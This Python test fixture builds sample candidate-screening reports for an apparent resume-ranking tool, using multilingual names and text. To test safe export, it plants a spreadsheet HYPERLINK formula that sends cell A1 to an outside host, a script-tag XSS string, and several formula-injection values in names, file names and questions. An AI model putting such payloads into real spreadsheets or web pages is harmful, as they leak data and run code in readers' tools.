"""A report made by hand: five people, every verdict, and texts that break careless formats."""

from screening.domain import (
    CandidateMatch,
    Citation,
    Claim,
    Criterion,
    Flag,
    Limits,
    Notice,
    Parts,
    PoolCount,
    Problem,
    Provenance,
    Report,
    Requirements,
    Rubric,
    ScreenedCount,
    Tuning,
    Usage,
    Verdict,
)

FORMULA = '=HYPERLINK("http://example.org/?x="&A1,"open")'
SCRIPT = "<script>alert('hi')</script>"
PIPES = "DevOps | SRE\nand on call"
CHINESE = "负责数据平台,使用 Airflow 调度夜间任务"
JAPANESE = "データ基盤をSparkで再構築した"
KOREAN = "스파크로 데이터 처리"
ARABIC = "مهندس بيانات أول في شركة الشحن 2019-2023"
HEBREW = "ראש צוות נתונים"
GREEK_CYRILLIC = "Ευρυδίκη Παπαδοπούλου, Дмитро Коваленко, Łukasz Żółć, Nguyễn Ánh"


def quote(text: str, start: int = 120) -> Citation:
    return Citation(start=start, end=start + len(text), quote=text)


def claim(text: str, *spans: Citation, role: str | None = None, who: str = "a1") -> Claim:
    return Claim(text=text, spans=spans, role=role, candidate_id=who)


def criterion(
    key: str,
    label: str,
    verdict: Verdict,
    said: str = "",
    rubric: Rubric = "technical",
    must: bool = True,
) -> Criterion:
    strength = {"met": 1.0, "partly": 0.5, "not_shown": 0.0, "contradicted": 0.0}[verdict]
    evidence = (claim(label, quote(said), role="Lead Data Engineer · Marlow Freight"),)
    return Criterion(
        key=key,
        label=label,
        rubric=rubric,
        must=must,
        weight=2.0 if must else 1.0,
        verdict=verdict,
        strength=strength,
        reason=f"{label}: as read in the roles" if verdict != "not_shown" else "",
        evidence=evidence if said else (),
    )


REQUIREMENTS = Requirements(
    title="Data Platform Engineer",
    must_have_skills=("Python", "Apache Airflow", "SQL"),
    nice_to_have_skills=("dbt", "Kubernetes"),
    any_of=(("Spark", "Flink"),),
    min_experience_years=4,
    max_experience_years=9,
    education_level="bachelor",
    education_or_equivalent=True,
    locations=("Rotterdam",),
    languages=("English (C1)",),
    certifications=("CIMA or ACCA",),
    excluded_skills=("Informatica",),
    other_constraints=("hybrid, two days in the office",),
    duties=("run the nightly pipelines", "cut the cost of the warehouse"),
    domain=("freight", "logistics"),
    skill_expansions={"Python": ("CPython",), "Spark": ("PySpark", "Databricks")},
)

ILSE = CandidateMatch(
    rank=1,
    candidate_id="a1f09c3d",
    label="Candidate A1F0",
    name="Ilse Kramer-Łoś",
    file="Ilse Kramer CV 2026.pdf",
    score=84.37,
    provisional=False,
    parts=Parts(dense=25.64, lexical=17.25, qualification=8.28, evidence=33.2),
    matched_skills=("Python", "Apache Airflow", "SQL", "Spark"),
    missing_skills=("dbt",),
    experience_years=8.4,
    rank_before=3,
    technical_score=88.0,
    domain_fit_score=79.5,
    composite_score=84.6,
    screening_status="recommended",
    screening_reasoning=(
        "Four of four must-haves are shown in dated roles, the latest in use now. "
        "Freight is the field of two of three roles."
    ),
    strengths=(
        claim(
            "Moved batch jobs to Airflow and halved failures",
            quote("Moved the nightly jobs to Airflow, halved failures within a quarter"),
            role="Lead Data Engineer · Marlow Freight",
        ),
        claim("Runs Spark on Kubernetes", quote("Spark on k8s, 40 TB a day | 3 regions", 402)),
    ),
    gaps=(claim("dbt is not shown"),),
    criteria=(
        criterion("python", "Python", "met", "Python services that 14 teams use"),
        criterion(
            "airflow",
            "Apache Airflow",
            "met",
            "Moved the nightly jobs to Airflow, halved failures within a quarter",
        ),
        criterion("sql", "SQL", "met", "Tuned SQL of the billing warehouse"),
        criterion("spark_flink", "Spark or Flink", "met", "Spark on k8s, 40 TB a day | 3 regions"),
        criterion("dbt", "dbt", "not_shown", must=False),
        criterion(
            "freight",
            "Freight and logistics",
            "met",
            "Rates and bookings for sea freight",
            rubric="domain",
            must=False,
        ),
        criterion(
            "scale", "Comparable scale", "partly", "40 TB a day", rubric="domain", must=False
        ),
    ),
    interview_questions=(
        "You halved failures after moving to Airflow. What failed before, and how did you count?",
        "What would you move to dbt first here, and what would you leave alone?",
        "Which part of Spark on Kubernetes would you not do again?",
    ),
    notices=(Notice(kind="overlap", detail="Two roles overlap by 3 months; counted once."),),
    read_by="local",
    headline="Lead Data Engineer",
    timeline=(
        "Feb 2022 - now · Lead Data Engineer · Marlow Freight",
        "Sep 2018 - Jan 2022 · Data Engineer · Quay & Sons",
    ),
)

MIXED = CandidateMatch(
    rank=2,
    candidate_id="b77e21aa",
    label="Candidate B77E",
    name=FORMULA,
    file="=cmd.pdf",
    score=77.7,
    provisional=False,
    parts=Parts(dense=22.2, lexical=16.6, qualification=8.9, evidence=30.0),
    matched_skills=("Python", "SQL"),
    missing_skills=("Apache Airflow",),
    experience_years=5.0,
    rank_before=1,
    technical_score=74.0,
    domain_fit_score=70.0,
    composite_score=69.0,
    screening_status="needs_review",
    screening_reasoning=f"Airflow is named in a list only. {SCRIPT} & so on.",
    strengths=(
        claim("Runs a platform", quote(CHINESE, 10), role=PIPES, who="b77e21aa"),
        claim("Rebuilt it on Spark", quote(JAPANESE, 50), who="b77e21aa"),
        claim("Works with Spark", quote(KOREAN, 80), who="b77e21aa"),
    ),
    gaps=(
        claim("Airflow is in a list, in no dated role", quote("Skills: Airflow, dbt", 900)),
        claim("Says “no SQL”", quote("I have not used SQL since 2016", 950)),
    ),
    criteria=(
        criterion("python", "Python", "met", "Python | Scala\nfor streaming"),
        criterion("airflow", "Apache Airflow", "partly", "Skills: Airflow, dbt"),
        criterion("sql", "SQL", "contradicted", "I have not used SQL since 2016"),
        criterion("spark_flink", "Spark or Flink", "met", JAPANESE),
        criterion("dbt", "dbt", "partly", "Skills: Airflow, dbt", must=False),
        criterion("freight", "Freight and logistics", "not_shown", rubric="domain", must=False),
    ),
    interview_questions=("Where did you run Airflow, and for how long?", "+1 for SQL?", "-- 3?"),
    flags=(
        Flag(
            code="must_missing",
            detail="A must-have is contradicted.",
            cap=69.0,
            blocks_recommendation=True,
        ),
        Flag(code="hidden_text", detail="White text on page 2 was found and left out."),
    ),
    notices=(Notice(kind="hidden_text", detail="Page 2 of =cmd.pdf holds white text."),),
    read_by="local (the model timed out)",
    headline=PIPES,
    timeline=("Mar 2021 - now · DevOps | SRE · Nørrebro A/S",),
)

SALMA = CandidateMatch(
    rank=3,
    candidate_id="c3d4e5f6",
    label="Candidate C3D4",
    name="سلمى الحداد",
    file="سلمى.docx",
    score=61.05,
    provisional=False,
    parts=Parts(dense=18.05, lexical=12.0, qualification=6.0, evidence=25.0),
    matched_skills=("SQL",),
    missing_skills=("Python", "Apache Airflow"),
    experience_years=3.0,
    technical_score=30.0,
    domain_fit_score=40.0,
    composite_score=34.0,
    screening_status="requirements_not_shown",
    screening_reasoning="Two of four must-haves are not shown in the resume.",
    strengths=(claim("Leads data work", quote(ARABIC, 5), quote(HEBREW, 90), who="c3d4e5f6"),),
    criteria=(
        criterion("python", "Python", "not_shown"),
        criterion("airflow", "Apache Airflow", "not_shown"),
        criterion("sql", "SQL", "met", ARABIC),
        criterion("spark_flink", "Spark or Flink", "partly", GREEK_CYRILLIC),
    ),
    interview_questions=("Which tools ran your schedules?",),
    read_by="local",
    headline=HEBREW,
    timeline=("2019 - 2023 · مهندس بيانات · شركة الشحن",),
)

FAILED = CandidateMatch(
    rank=4,
    candidate_id="d4d4d4d4",
    label="Candidate D4D4",
    name="陈嘉树",
    file="简历_陈嘉树.pdf",
    score=58.2,
    provisional=False,
    parts=Parts(dense=20.0, lexical=20.2, qualification=8.0, evidence=10.0),
    matched_skills=("Python",),
    experience_years=6.5,
    screening_status="needs_review",
)

LATER = CandidateMatch(
    rank=5,
    candidate_id="e5e5e5e5",
    label="Candidate E5E5",
    name="@Sum(1+1)",
    file="e.txt",
    score=41.0,
    provisional=True,
    parts=Parts(dense=20.5, lexical=14.5, qualification=6.0),
    experience_years=2.0,
    rank_before=5,
)

NEAR = CandidateMatch(
    rank=11,
    candidate_id="f6f6f6f6",
    label="Candidate F6F6",
    name="Noor Haddad",
    file="noor.pdf",
    score=40.9,
    provisional=True,
    parts=Parts(dense=20.0, lexical=15.0, qualification=5.9),
    experience_years=3.0,
    near_miss="One year short of 4 years; with a minimum of 3 this would be 6th.",
)

PROVENANCE = Provenance(
    product_version="0.1.0",
    analyst="local",
    embedder="packaged:all-MiniLM-L6-v2",
    reranker="none",
    policy_hash="0a1b2c3d4e5f",
    taxonomy_version="2026.1",
    rubric_version="1",
    prompt_hashes={"read_job": "beef", "assess": "cafe"},
    as_of="2026-11",
    pool_revision="r7",
)


def full_report(*, blind: bool = False) -> Report:
    """Five on the shortlist, three read, one failed, one not asked, and a near miss."""
    people = (ILSE, MIXED, SALMA, FAILED, LATER)
    if blind:
        people = tuple(person.model_copy(update={"name": None}) for person in people)
    return Report(
        thread_id="t-42",
        made_at="2026-11-30T10:20:30+00:00",
        blind=blind,
        round=2,
        requirements=REQUIREMENTS,
        tuning=Tuning(limits=Limits(deep=4)),
        shortlist=people,
        near_misses=(NEAR.model_copy(update={"name": None}) if blind else NEAR,),
        screened=ScreenedCount(asked=4, done=2, stood_in=1, failed=1),
        pool=PoolCount(size=64, scored=61, hidden_below_cut=56),
        errors=(
            Problem(
                code="analyst_failed",
                node="deep_screen",
                detail="Reading 简历_陈嘉树.pdf timed out | twice",
                candidate_id="d4d4d4d4",
            ),
            Problem(code="read_failed", node="search_resumes", detail=SCRIPT),
        ),
        explanation="People who show Airflow in a dated role come first.",
        usage=Usage(model_calls=9, input_tokens=12000, output_tokens=900),
        provenance=PROVENANCE,
    )


def empty_report() -> Report:
    """A search that found nobody."""
    return Report(
        thread_id="t-0",
        made_at="2026-11-30T10:20:30+00:00",
        blind=True,
        round=1,
        requirements=Requirements(),
        tuning=Tuning(),
        errors=(Problem(code="empty_pool", node="rank_candidates", detail="The pool is empty."),),
        provenance=PROVENANCE,
    )
